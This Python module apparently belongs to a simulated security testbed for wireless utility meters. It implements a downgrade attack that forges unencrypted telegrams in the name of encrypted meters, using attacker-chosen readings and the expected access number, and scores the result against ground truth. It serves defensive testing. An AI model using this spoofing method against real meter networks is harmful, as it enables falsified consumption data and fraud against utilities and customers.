"""Downgrade: a telegram in clear in the name of a meter that encrypts."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from attacks.attack import Can, Outcome, Steps, attack, form
from attacks.parts import forgery
from attacks.parts.sent_frames import Shot, outcomes_of
from attacks.parts.survey import Known, Survey
from attacks.reach import Reach
from sim.truth.ground_truth import Truth, fingerprint

FORMS: dict[str, Callable[[bytes, bytes], bytes]] = {
    "mode 0": forgery.in_mode_0,
    "no header (CI 78)": forgery.without_header,
    "no encrypted block (N = 0)": forgery.with_no_block,
    "mode 0 behind an extended link layer": forgery.behind_ell,
}
UNITS = 1


@attack(
    id="radio.downgrade",
    title="Send in clear in the name of an encrypted meter",
    threats=["L19"],
    can=Can.HEAR | Can.SPEAK,
    ics=["T0856", "T0860"],
    weakness={"portal.pin_profile": False},
    seen_as="refused: profile",
    forms={
        name: form(f"own address, units and a clock in clear at the end, {words}", None)
        for name, words in {
            "mode 0": "header without address, mode 0, no extended link layer",
            "no header (CI 78)": "no header",
            "no encrypted block (N = 0)": "no encrypted block",
            "mode 0 behind an extended link layer": "extended link layer, mode 0",
        }.items()
    },
)
@dataclass
class Downgrade:
    """Nothing is broken and no key is needed: the telegram is written anew, with units of the attacker's choice, the
    present date and time and the access number expected next, and says of itself that it is not encrypted. A receiver
    that believes what a telegram says about its own protection takes it, whatever else it checks.

    Each form is sent in the names of `targets_each` meters of each mode and maker, half an interval after they spoke,
    `shots_each` times.
    """

    learn_s: float = 600.0
    targets_each: int = 1
    shots_each: int = 2
    makers: tuple[str, ...] = ("QDS", "TCH")
    survey: Survey = field(default_factory=Survey)
    shots: list[Shot] = field(default_factory=list)
    _own: set[bytes] = field(default_factory=set)
    _armed: dict[str, list[str]] = field(default_factory=dict)

    def run(self, reach: Reach) -> Steps:
        reach.listen(lambda heard: self._heard(reach, self.survey.note(heard)))
        yield reach.wait_until(self.learn_s)
        for security in ("mode5", "mode7"):
            for maker in self.makers:
                known = self.survey.loudest(security, makers=(maker,), least=2)
                for number, target in enumerate(known[: len(FORMS) * self.targets_each]):
                    self._armed[target.address] = [list(FORMS)[number % len(FORMS)]] * self.shots_each

    def _heard(self, reach: Reach, known: Known | None) -> None:
        if known is None or not self._armed.get(known.address) or known.recordings[-1].telegram in self._own:
            return
        reach.go(self._forge(reach, self._armed[known.address].pop(), known))

    def _forge(self, reach: Reach, variant: str, known: Known) -> Steps:
        yield reach.wait(known.interval_s / 2)
        genuine = known.recordings[-1].telegram
        forged = FORMS[variant](genuine, forgery.records_now(UNITS, reach.today()))
        reach.note("speak", f"{variant}: {known.address}, telegram {fingerprint(forged)}")
        self._own.add(forged)
        self.shots.append(Shot(variant, known.security, known.address, reach.speak(forged), genuine))

    def outcomes(self, truth: Truth) -> list[Outcome]:
        return outcomes_of(self.shots, truth)
